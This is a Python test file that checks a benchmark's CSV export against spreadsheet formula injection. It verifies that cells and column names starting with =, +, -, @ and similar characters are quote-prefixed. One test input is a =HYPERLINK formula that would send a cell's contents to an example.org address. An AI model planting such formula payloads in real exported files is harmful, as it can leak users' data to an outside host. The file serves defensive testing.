"""A table's text runs nothing in a spreadsheet, whichever command wrote the CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import given
from hypothesis import strategies as st

from emobench.core.plan import load_plan
from emobench.report.export import format_csv
from emobench.tables.csv_guard import guard_column, guard_text
from tests.support.runs import append, collected, episode, make_run

FIRST = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULA = "=HYPERLINK(\"http://example.org/\"&A1, 'pay')"


def test_collected_csv_runs_nothing_in_a_spreadsheet(tmp_path: Path) -> None:
    run_dir = make_run(tmp_path / "study")
    cell = load_plan(run_dir).cells[0]
    hostile = [
        {"role": "user", "content": FORMULA},
        {
            "role": "assistant",
            "content": "- one\n- two",
            "tool_calls": [
                {"id": "1", "type": "function", "function": {"name": "@SUM", "arguments": "{}"}}
            ],
        },
    ]
    append(run_dir, cell, [episode(cell, 0, traj=hostile, seed=-5)])
    collected(tmp_path / "out", run_dir, csv=True, text=True)
    with (tmp_path / "out" / "turns.csv").open(encoding="utf-8", newline="") as stream:
        turns = list(csv.DictReader(stream))
    assert [turn["text"] for turn in turns] == [f"'{FORMULA}", "'- one\n- two"]
    assert turns[1]["tool"] == "'@SUM"
    # Numbers stay numbers, and Parquet has the text as it was said.
    with (tmp_path / "out" / "episodes.csv").open(encoding="utf-8", newline="") as stream:
        assert [row["seed"] for row in csv.DictReader(stream)] == ["-5"]
    assert pq.read_table(tmp_path / "out" / "turns.parquet")["text"][0].as_py() == FORMULA


def test_names_of_columns_are_guarded_too() -> None:
    assert format_csv([{"+word": "=1"}]) == "'+word\n'=1\n"


@given(st.lists(st.one_of(st.none(), st.text(), st.text(FIRST + " 'a"))))
def test_columns_and_texts_are_guarded_alike(texts: list[str | None]) -> None:
    expected = [None if text is None else guard_text(text) for text in texts]
    assert guard_column(pa.array(texts, pa.string())).to_pylist() == expected
    for text, guarded in zip(texts, expected, strict=True):
        if text is not None and guarded is not None:
            assert guarded in (text, f"'{text}")
            assert not guarded.startswith(tuple(FIRST))
